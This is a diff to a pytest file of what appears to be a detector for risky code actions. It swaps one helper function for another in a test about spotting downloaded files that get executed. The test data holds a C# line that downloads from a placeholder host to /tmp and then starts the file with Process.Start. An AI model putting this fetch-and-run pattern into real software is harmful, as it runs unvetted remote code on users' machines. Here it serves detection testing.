@@ -5,7 +5,8 @@ from __future__ import annotations
 import pytest
 
 from signoff.actions.action import Action
-from signoff.actions.contents.starting.handed_lines import handed_lines, starts_what_it_fetched
+from signoff.actions.contents.loaders.flow import flows_in
+from signoff.actions.contents.starting.handed_lines import handed_lines
 from signoff.actions.facts import Facts
 from signoff.actions.operation import Trait
 from signoff.actions.understand import understand
@@ -39,8 +40,8 @@ def test_what_is_only_said_is_no_line(code: str) -> None:
 def test_a_file_that_is_fetched_and_started_is_told_by_its_name() -> None:
     code = 'new WebClient().DownloadFile("https://x.example/a", "/tmp/a"); Process.Start("{}");'
 
-    assert starts_what_it_fetched(code.format("/tmp/a"))
-    assert not starts_what_it_fetched(code.format("/usr/bin/git"))
+    assert list(flows_in(code.format("/tmp/a")))
+    assert not list(flows_in(code.format("/usr/bin/git")))
 
 
 @pytest.mark.parametrize(
